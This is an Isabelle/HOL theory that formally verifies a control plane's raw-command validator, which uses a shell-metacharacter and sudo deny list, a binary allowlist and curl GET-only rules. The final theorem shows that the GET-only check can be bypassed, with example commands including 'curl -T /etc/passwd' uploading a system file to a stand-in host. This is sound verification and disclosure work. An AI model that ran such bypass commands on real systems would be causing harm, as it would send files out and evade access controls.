(* ===== verification/Rawcmd.thy ===== *)
theory Rawcmd
  imports Prelude
begin

text \<open>
  The control plane's static validator for raw commands, \<open>rca_common/rawcmd.py\<close>, with the POSIX
  \<open>shlex.split\<close> it relies on.  The main result characterises the accepted commands: no shell
  metacharacter and no \<open>sudo\<close> anywhere in the text, an allowed binary, and the extra conditions
  on \<open>curl\<close> and \<open>jmap\<close>.
\<close>

section \<open>The standard library's shlex.split\<close>

text \<open>The states of \<open>shlex.read_token\<close> with \<open>posix\<close> and \<open>whitespace_split\<close> on and no comment
  characters: between tokens, inside a word, inside quotes, after a backslash.\<close>

datatype lex_state = Blank | InWord | Quoted char | Escaped lex_state

definition shlex_space :: "char \<Rightarrow> bool" where
  "shlex_space c \<longleftrightarrow> c \<in> {CHR '' '', CHR 0x09, CHR 0x0A, CHR 0x0D}"

definition shlex_quote :: "char \<Rightarrow> bool" where
  "shlex_quote c \<longleftrightarrow> c = CHR 0x22 \<or> c = CHR 0x27"

abbreviation backslash :: char where
  "backslash \<equiv> CHR 0x5C"

text \<open>\<open>lex st tok q s\<close>: state, token so far, whether the token had quotes, rest of the input.\<close>

fun lex :: "lex_state \<Rightarrow> string \<Rightarrow> bool \<Rightarrow> string \<Rightarrow> string + string list" where
  "lex Blank tok q [] = Inr []"
| "lex Blank tok q (c # s) =
     (if shlex_space c then lex Blank [] False s
      else if c = backslash then lex (Escaped InWord) [] False s
      else if shlex_quote c then lex (Quoted c) [] False s
      else lex InWord [c] False s)"
| "lex (Quoted d) tok q [] = Inl ''No closing quotation''"
| "lex (Quoted d) tok q (c # s) =
     (if c = d then lex InWord tok True s
      else if c = backslash \<and> d = CHR 0x22 then lex (Escaped (Quoted d)) tok True s
      else lex (Quoted d) (tok @ [c]) True s)"
| "lex (Escaped st) tok q [] = Inl ''No escaped character''"
| "lex (Escaped st) tok q (c # s) =
     (case st of
        Quoted d \<Rightarrow> lex st (if c \<noteq> backslash \<and> c \<noteq> d then tok @ [backslash, c] else tok @ [c]) q s
      | _ \<Rightarrow> lex st (tok @ [c]) q s)"
| "lex InWord tok q [] = Inr (if tok \<noteq> [] \<or> q then [tok] else [])"
| "lex InWord tok q (c # s) =
     (if shlex_space c then
        (if tok \<noteq> [] \<or> q then bind_res (lex Blank [] False s) (\<lambda>ts. Inr (tok # ts))
         else lex Blank [] False s)
      else if shlex_quote c then lex (Quoted c) tok q s
      else if c = backslash then lex (Escaped InWord) tok q s
      else lex InWord (tok @ [c]) q s)"

definition shlex_split :: "string \<Rightarrow> string + string list" where
  "shlex_split s = lex Blank [] False s"

section \<open>rawcmd.py\<close>

definition ALLOWED_BINARIES :: "string list" where
  "ALLOWED_BINARIES = [''cat'', ''grep'', ''egrep'', ''tail'', ''head'', ''ls'', ''ps'', ''df'',
     ''du'', ''free'', ''uptime'', ''curl'', ''jcmd'', ''jstack'', ''jmap'']"

definition FORBIDDEN_LITERALS :: "string list" where
  "FORBIDDEN_LITERALS =
     ['';'', ''&&'', ''||'', ''|'', ''>'', ''>>'', ''<'', [CHR 0x60], ''$('', ''${'']"

text \<open>One alternative of \<open>_FORBIDDEN_RE\<close> at the current position; \<open>w\<close> tells whether the
  character before it is a word character.\<close>

definition forbidden_here :: "bool \<Rightarrow> string \<Rightarrow> bool" where
  "forbidden_here w s \<longleftrightarrow>
     list_ex (\<lambda>p. starts_with p s) FORBIDDEN_LITERALS \<or>
     (\<not> w \<and> str_lower (take 4 s) = ''sudo'' \<and> (case drop 4 s of [] \<Rightarrow> True | d # _ \<Rightarrow> \<not> is_word d))"

fun forbidden_from :: "bool \<Rightarrow> string \<Rightarrow> bool" where
  "forbidden_from w [] = False"
| "forbidden_from w (c # s) = (forbidden_here w (c # s) \<or> forbidden_from (is_word c) s)"

definition FORBIDDEN_RE_search :: "string \<Rightarrow> bool" where
  "FORBIDDEN_RE_search s = forbidden_from False s"

record ValidationResult =
  vr_ok :: bool
  vr_reason :: string

definition method_allowed :: "string \<Rightarrow> bool" where
  "method_allowed m \<longleftrightarrow> str_upper m = ''GET'' \<or> str_upper m = ''HEAD''"

fun validate_curl_get_only :: "string list \<Rightarrow> string" where
  "validate_curl_get_only [] = []"
| "validate_curl_get_only (tok # rest) =
     (let low = str_lower tok in
      if low = ''-x'' \<or> low = ''--request'' then
        (case rest of
           [] \<Rightarrow> ''curl is GET-only''
         | m # rest' \<Rightarrow>
             if \<not> method_allowed m then ''curl is GET-only'' else validate_curl_get_only rest')
      else if starts_with ''-x'' low \<and> length tok > 2 \<and> \<not> starts_with ''--'' low then
        (if \<not> method_allowed (drop 2 tok) then ''curl is GET-only'' else validate_curl_get_only rest)
      else if low \<in> {''-d'', ''--data'', ''--data-raw'', ''--data-binary'', ''--data-urlencode''} then
        ''curl is GET-only''
      else if starts_with ''-d'' low \<and> \<not> starts_with ''--'' low then ''curl is GET-only''
      else if tok = ''-F'' \<or> starts_with ''--form'' low then ''curl is GET-only''
      else validate_curl_get_only rest)"

definition rsplit_slash :: "string \<Rightarrow> string" where
  "rsplit_slash s = last (split_char (CHR ''/'') s)"

definition jmap_histo :: "string list \<Rightarrow> bool" where
  "jmap_histo rest \<longleftrightarrow> list_ex (\<lambda>t. t = ''-histo'' \<or> starts_with ''-histo:'' t) rest"

definition static_validate :: "string option \<Rightarrow> ValidationResult" where
  "static_validate command =
    (let fail = (\<lambda>r. \<lparr>vr_ok = False, vr_reason = r\<rparr>) in
     case command of
       None \<Rightarrow> fail ''empty command''
     | Some cmd \<Rightarrow>
         let text = str_strip cmd in
         if text = [] then fail ''empty command''
         else if FORBIDDEN_RE_search text then fail ''forbidden shell metacharacter or sudo''
         else (case shlex_split text of
             Inl e \<Rightarrow> fail (''unparseable command: '' @ e)
           | Inr [] \<Rightarrow> fail ''empty command''
           | Inr (binary # rest) \<Rightarrow>
               let base = rsplit_slash binary in
               if base \<notin> set ALLOWED_BINARIES then
                 fail (''binary '' @ py_repr base @ '' not in allowlist'')
               else if base = ''curl'' \<and> validate_curl_get_only rest \<noteq> [] then
                 fail (validate_curl_get_only rest)
               else if base = ''jmap'' \<and> (rest = [] \<or> \<not> jmap_histo rest) then
                 fail ''jmap only allows -histo''
               else \<lparr>vr_ok = True, vr_reason = []\<rparr>))"

section \<open>What the validator accepts\<close>

text \<open>The declarative reading of the forbidden pattern.\<close>

definition metachars_absent :: "string \<Rightarrow> bool" where
  "metachars_absent s \<longleftrightarrow>
     list_all (\<lambda>p. \<not> contains p s) FORBIDDEN_LITERALS"

definition sudo_word :: "string \<Rightarrow> bool" where
  "sudo_word s \<longleftrightarrow> (\<exists>a w b. s = a @ w @ b \<and> str_lower w = ''sudo'' \<and>
     (a = [] \<or> \<not> is_word (last a)) \<and> (b = [] \<or> \<not> is_word (hd b)))"

definition word_before :: "bool \<Rightarrow> string \<Rightarrow> bool" where
  "word_before w a \<longleftrightarrow> (if a = [] then w else is_word (last a))"

lemma forbidden_from_iff:
  "forbidden_from w s \<longleftrightarrow> (\<exists>a b. s = a @ b \<and> b \<noteq> [] \<and> forbidden_here (word_before w a) b)"
proof (induction s arbitrary: w)
  case Nil
  then show ?case by simp
next
  case (Cons c s)
  have "word_before w (c # a) = word_before (is_word c) a" "word_before w [] = w" for a
    by (simp_all add: word_before_def)
  with Cons show ?case by (simp add: ex_split_Cons[of c s "\<lambda>a. forbidden_here (word_before w a)"])
qed

lemma sudo_here_iff:
  "str_lower (take 4 b) = ''sudo'' \<and> (case drop 4 b of [] \<Rightarrow> True | d # _ \<Rightarrow> \<not> is_word d) \<longleftrightarrow>
   (\<exists>u v. b = u @ v \<and> str_lower u = ''sudo'' \<and> (v = [] \<or> \<not> is_word (hd v)))"
proof
  assume "str_lower (take 4 b) = ''sudo'' \<and> (case drop 4 b of [] \<Rightarrow> True | d # _ \<Rightarrow> \<not> is_word d)"
  then show "\<exists>u v. b = u @ v \<and> str_lower u = ''sudo'' \<and> (v = [] \<or> \<not> is_word (hd v))"
    by (intro exI[of _ "take 4 b"] exI[of _ "drop 4 b"]) (auto split: list.splits)
next
  assume "\<exists>u v. b = u @ v \<and> str_lower u = ''sudo'' \<and> (v = [] \<or> \<not> is_word (hd v))"
  then obtain u v where b: "b = u @ v" "str_lower u = ''sudo''" "v = [] \<or> \<not> is_word (hd v)" by blast
  from b(2) have "length (str_lower u) = 4" by simp
  then have "length u = 4" by (simp add: str_lower_def)
  with b show "str_lower (take 4 b) = ''sudo'' \<and>
      (case drop 4 b of [] \<Rightarrow> True | d # _ \<Rightarrow> \<not> is_word d)"
    by (cases v) auto
qed

lemma starts_somewhere:
  "p \<noteq> [] \<Longrightarrow> (\<exists>a b. s = a @ b \<and> b \<noteq> [] \<and> starts_with p b) \<longleftrightarrow> contains p s"
  by (auto simp: contains_iff starts_with_iff)

lemma sudo_somewhere:
  "(\<exists>a b. s = a @ b \<and> b \<noteq> [] \<and> \<not> word_before False a \<and>
      (\<exists>u v. b = u @ v \<and> str_lower u = ''sudo'' \<and> (v = [] \<or> \<not> is_word (hd v)))) \<longleftrightarrow> sudo_word s"
    (is "?L \<longleftrightarrow> _")
proof
  assume ?L
  then obtain a u v where "s = a @ u @ v" "\<not> word_before False a" "str_lower u = ''sudo''"
    "v = [] \<or> \<not> is_word (hd v)" by blast
  then show "sudo_word s"
    unfolding sudo_word_def word_before_def
    by (intro exI[of _ a] exI[of _ u] exI[of _ v]) (simp split: if_splits)
next
  assume "sudo_word s"
  then obtain a u v where "s = a @ u @ v" "a = [] \<or> \<not> is_word (last a)" "str_lower u = ''sudo''"
    "v = [] \<or> \<not> is_word (hd v)" unfolding sudo_word_def by blast
  then show ?L
    by (intro exI[of _ a] exI[of _ "u @ v"] conjI exI[of _ u] exI[of _ v])
      (auto simp: word_before_def str_lower_def)
qed

lemma forbidden_search_iff:
  "FORBIDDEN_RE_search s \<longleftrightarrow> \<not> metachars_absent s \<or> sudo_word s"
proof -
  have ne: "p \<noteq> []" if "p \<in> set FORBIDDEN_LITERALS" for p
    using that by (auto simp: FORBIDDEN_LITERALS_def)
  have gen: "(\<exists>a b. A a b \<and> B b \<and> ((\<exists>p \<in> S. Q p b) \<or> R a b)) \<longleftrightarrow>
      (\<exists>p \<in> S. \<exists>a b. A a b \<and> B b \<and> Q p b) \<or> (\<exists>a b. A a b \<and> B b \<and> R a b)"
    for A and B :: "string \<Rightarrow> bool" and S :: "string set" and Q and R :: "string \<Rightarrow> string \<Rightarrow> bool"
    by blast
  have "FORBIDDEN_RE_search s \<longleftrightarrow>
    (\<exists>p \<in> set FORBIDDEN_LITERALS. \<exists>a b. s = a @ b \<and> b \<noteq> [] \<and> starts_with p b) \<or>
    (\<exists>a b. s = a @ b \<and> b \<noteq> [] \<and> \<not> word_before False a \<and>
      (\<exists>u v. b = u @ v \<and> str_lower u = ''sudo'' \<and> (v = [] \<or> \<not> is_word (hd v))))"
    unfolding FORBIDDEN_RE_search_def forbidden_from_iff forbidden_here_def sudo_here_iff
      list_ex_iff by (rule gen)
  also have "\<dots> \<longleftrightarrow> (\<exists>p \<in> set FORBIDDEN_LITERALS. contains p s) \<or> sudo_word s"
    unfolding sudo_somewhere using starts_somewhere[OF ne] by simp
  finally show ?thesis by (auto simp: metachars_absent_def list_all_iff)
qed

text \<open>A token that makes \<open>curl\<close> send a body, as far as the validator knows.\<close>

definition body_flag :: "string \<Rightarrow> bool" where
  "body_flag tok \<longleftrightarrow> (let low = str_lower tok in
     low \<in> {''--data'', ''--data-raw'', ''--data-binary'', ''--data-urlencode''} \<or>
     starts_with ''-d'' low \<or> tok = ''-F'' \<or> starts_with ''--form'' low)"

lemma lower_char_dash: "lower_char c = CHR ''-'' \<longleftrightarrow> c = CHR ''-''"
  using lower_char_fix[of c "CHR ''-''"] by (auto simp: code_point_def lower_char_def)

lemma method_not_body: "method_allowed m \<Longrightarrow> \<not> body_flag m"
proof -
  assume m: "method_allowed m"
  have "hd m \<noteq> CHR ''-''" if "m \<noteq> []"
  proof
    assume "hd m = CHR ''-''"
    with that have "hd (str_upper m) = CHR ''-''"
      by (cases m) (auto simp: str_upper_def upper_char_def code_point_def)
    with m show False by (auto simp: method_allowed_def)
  qed
  then show "\<not> body_flag m"
    by (cases m) (auto simp: body_flag_def starts_with_def str_lower_def lower_char_dash Let_def)
qed

text \<open>Every token after an accepted \<open>curl\<close> is free of the flags the validator refuses, and
  every explicit method is \<open>GET\<close> or \<open>HEAD\<close>.\<close>

definition request_flag :: "string \<Rightarrow> bool" where
  "request_flag tok \<longleftrightarrow> str_lower tok = ''-x'' \<or> str_lower tok = ''--request''"

lemma lower_x_not_body: "starts_with ''-x'' (str_lower tok) \<Longrightarrow> \<not> body_flag tok"
proof -
  assume "starts_with ''-x'' (str_lower tok)"
  then obtain r where r: "str_lower tok = ''-x'' @ r" by (auto simp: starts_with_iff)
  have "lower_char (CHR ''F'') = CHR ''f''" by code_simp
  with r have "tok \<noteq> ''-F''" by (auto simp: str_lower_def)
  with r show ?thesis by (simp add: body_flag_def starts_with_def)
qed

lemma curl_accept_step:
  assumes "validate_curl_get_only (tok # rest) = []"
  shows "(\<exists>m rest'. request_flag tok \<and> rest = m # rest' \<and> method_allowed m \<and>
            validate_curl_get_only rest' = []) \<or>
         (\<not> request_flag tok \<and> \<not> body_flag tok \<and> validate_curl_get_only rest = [])"
proof (cases "request_flag tok")
  case True
  with assms show ?thesis
    by (cases rest) (auto simp: request_flag_def Let_def split: if_splits)
next
  case False
  show ?thesis
  proof (cases "starts_with ''-x'' (str_lower tok)")
    case True
    with assms False lower_x_not_body[OF True] show ?thesis
      by (simp add: request_flag_def Let_def split: if_splits)
  next
    case nx: False
    with assms False have "\<not> body_flag tok \<and> validate_curl_get_only rest = []"
      by (auto simp: request_flag_def body_flag_def Let_def starts_with_def split: if_splits)
    with False show ?thesis by blast
  qed
qed

lemma request_not_body: "request_flag tok \<Longrightarrow> \<not> body_flag tok"
proof -
  assume r: "request_flag tok"
  have "str_lower ''-F'' = ''-f''" by code_simp
  with r have "tok \<noteq> ''-F''" by (auto simp: request_flag_def)
  with r show ?thesis by (auto simp: request_flag_def body_flag_def starts_with_def)
qed

lemma curl_no_body:
  "validate_curl_get_only args = [] \<Longrightarrow> t \<in> set args \<Longrightarrow> \<not> body_flag t"
proof (induction args rule: length_induct)
  case (1 args)
  then obtain tok rest where args: "args = tok # rest" by (cases args) auto
  from curl_accept_step[of tok rest] 1(2) args show ?case
    using 1(1,3) args method_not_body request_not_body by fastforce
qed

text \<open>The accepted commands, without the validator's control flow.\<close>

definition raw_command_allowed :: "string \<Rightarrow> bool" where
  "raw_command_allowed cmd \<longleftrightarrow>
     (let text = str_strip cmd in
      metachars_absent text \<and> \<not> sudo_word text \<and>
      (\<exists>binary rest. shlex_split text = Inr (binary # rest) \<and>
         rsplit_slash binary \<in> set ALLOWED_BINARIES \<and>
         (rsplit_slash binary = ''curl'' \<longrightarrow> validate_curl_get_only rest = []) \<and>
         (rsplit_slash binary = ''jmap'' \<longrightarrow> jmap_histo rest)))"

lemma shlex_split_Nil [simp]: "shlex_split [] = Inr []"
  by (simp add: shlex_split_def)

lemma jmap_histo_ne: "jmap_histo rest \<Longrightarrow> rest \<noteq> []"
  by (auto simp: jmap_histo_def)

lemma static_validate_Some_ok:
  "vr_ok (static_validate (Some cmd)) \<longleftrightarrow> raw_command_allowed cmd"
  using jmap_histo_ne
  by (auto simp: static_validate_def raw_command_allowed_def Let_def forbidden_search_iff
      split: sum.splits list.splits if_splits)

text \<open>An accepted command has no reason, a refused one has one.\<close>

lemma validate_curl_reason:
  "validate_curl_get_only args = [] \<or> validate_curl_get_only args = ''curl is GET-only''"
  by (induction args rule: validate_curl_get_only.induct)
    (auto simp: Let_def split: list.splits)

lemma static_validate_reason: "vr_reason (static_validate c) = [] \<longleftrightarrow> vr_ok (static_validate c)"
  by (auto simp: static_validate_def Let_def split: option.splits sum.splits list.splits)

section \<open>Properties\<close>

text \<open>the validator accepts a command exactly when its stripped text contains none of the
  forbidden shell metacharacters and no stand-alone \<open>sudo\<close> (any case), splits into tokens, and
  names an allowed binary whose extra conditions (\<open>curl\<close> GET-only flags, \<open>jmap -histo\<close>)
  hold.  The scan of the regular expression over positions agrees with the substring reading.\<close>

theorem static_validate_accepts_iff:
  "vr_ok (static_validate (Some cmd)) = raw_command_allowed cmd"
  by (rule static_validate_Some_ok)

text \<open>when a \<open>curl\<close> command is accepted, no argument is one of the body-sending flags the
  validator lists (\<open>-d\<close> in every combined form, the \<open>--data\<close> family, \<open>-F\<close>, \<open>--form\<close>
  in every form), and an argument that asks for an explicit method is followed by \<open>GET\<close> or
  \<open>HEAD\<close> when it comes first.\<close>

theorem curl_accepted_get_only:
  assumes "vr_ok (static_validate (Some cmd))"
    and "shlex_split (str_strip cmd) = Inr (binary # args)"
    and "rsplit_slash binary = ''curl''"
  shows "list_all (\<lambda>t. \<not> body_flag t) args \<and>
    (args \<noteq> [] \<longrightarrow> request_flag (hd args) \<longrightarrow> 2 \<le> length args \<and> method_allowed (args ! 1))"
proof

  from assms have v: "validate_curl_get_only args = []"
    by (auto simp: static_validate_Some_ok raw_command_allowed_def Let_def)
  then show "list_all (\<lambda>t. \<not> body_flag t) args"
    using curl_no_body by (auto simp: list_all_iff)
  from v show "args \<noteq> [] \<longrightarrow> request_flag (hd args) \<longrightarrow>
      2 \<le> length args \<and> method_allowed (args ! 1)"
    using curl_accept_step[of "hd args" "tl args"] by (cases args) auto
qed

theorem curl_accepted_get_only_witness:
  "list_all (\<lambda>t. \<not> body_flag t) [''-X'', ''GET'', ''http://h/''] \<and> method_allowed ''GET''"
proof -
  let ?cmd = "''curl -X GET http://h/''"
  have a: "vr_ok (static_validate (Some ?cmd))" by code_simp
  have b: "shlex_split (str_strip ?cmd) = Inr (''curl'' # [''-X'', ''GET'', ''http://h/''])"
    by code_simp
  have c: "rsplit_slash ''curl'' = ''curl''" and d: "request_flag ''-X''" by code_simp+
  show ?thesis
    using curl_accepted_get_only[OF a b c] d by simp
qed

text \<open>the GET-only gate lets uploads and posts through: \<open>-T\<close> sends a \<open>PUT\<close>,
  \<open>--json\<close> and \<open>--data-ascii\<close> send a \<open>POST\<close>, and \<open>-sXDELETE\<close> hides the
  method behind another short flag; all four are accepted.\<close>

theorem curl_upload_accepted:
  "list_all (\<lambda>cmd. vr_ok (static_validate (Some cmd)))
     [''curl -T /etc/passwd http://h/'', ''curl --json @f http://h/'',
      ''curl --data-ascii x http://h/'', ''curl -sXDELETE http://h/'']"
  by code_simp

end
